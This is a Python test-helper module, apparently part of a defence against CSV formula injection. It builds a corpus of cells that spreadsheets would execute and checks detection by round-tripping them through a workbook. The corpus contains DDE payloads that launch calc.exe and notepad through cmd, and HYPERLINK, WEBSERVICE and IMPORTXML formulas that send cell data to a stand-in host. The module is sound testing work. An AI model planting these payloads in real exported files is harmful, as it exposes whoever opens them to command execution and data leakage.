"""Cells that a spreadsheet would run, and what a spreadsheet makes of a file: written here, apart from our own rule."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import zipfile
from collections.abc import Iterable, Sequence

import xlsxwriter
from python_calamine import CalamineWorkbook

DEBUTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
CORPS = (
    "1+1",
    "SOMME(A1:A9)",
    "SUM(1,1)*cmd|' /C calc'!A0",
    "cmd|' /C notepad'!'A1'",
    'HYPERLINK("http://exemple.fr/?v="&A1,"Erreur : cliquez")',
    'LIEN_HYPERTEXTE("http://exemple.fr/";"Cliquez")',
    'WEBSERVICE("http://exemple.fr/"&A1)',
    'IMPORTXML(CONCAT("http://exemple.fr/?",A1),"//a")',
    "A1",
    "$A$1+Feuille2!B2",
    "MSEXCEL|'\\..\\..\\Windows\\cmd.exe /c calc.exe'!''",
    "=1+1",
    "+-@=2",
    "'=1+1",
    " 1+1",
    "10 rue de l'Exemple",
    "bonjour",
    "@",
)
CORPUS = tuple(debut + corps for debut in DEBUTS for corps in CORPS)
"""More than two hundred cells, each of which some spreadsheet takes for a formula or for the start of one."""

_NOMBRE = re.compile(r"[+-]?[\d\s]+([.,]\d+)?")


def executerait(cellule: str) -> bool:
    """Tell whether a spreadsheet would take a cell of a text file for a formula.

    Blanks and controls before it are skipped and full-width forms folded, as lenient imports do.
    """
    texte = unicodedata.normalize("NFKC", cellule).lstrip("\0\t\r\n ")
    return texte[:1] in ("=", "+", "-", "@") and not _NOMBRE.fullmatch(texte)


def relire(octets: bytes, *, delimiteur: str) -> list[list[str]]:
    """Cut a file into cells, strictly (standard library)."""
    texte = octets.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(texte, newline=""), delimiter=delimiteur, strict=True))


def ouvrir_en_classeur(lignes: Iterable[Sequence[str]]) -> tuple[int, list[list[str]]]:
    """Put cells in a workbook as an import does (texts that look like formulas become formulas).

    Returns how many formulas it holds, and what another reader finds in it.
    """
    tampon = io.BytesIO()
    classeur = xlsxwriter.Workbook(tampon, {"in_memory": True, "strings_to_formulas": True, "strings_to_urls": False})
    feuille = classeur.add_worksheet()
    for rang, ligne in enumerate(lignes):
        for colonne, cellule in enumerate(ligne):
            feuille.write(rang, colonne, cellule)
    classeur.close()
    tampon.seek(0)
    with zipfile.ZipFile(tampon) as archive:
        formules = archive.read("xl/worksheets/sheet1.xml").count(b"<f>")
    tampon.seek(0)
    lues = CalamineWorkbook.from_filelike(tampon).get_sheet_by_index(0).to_python(skip_empty_area=False)
    return formules, [[str(cellule) for cellule in ligne] for ligne in lues]
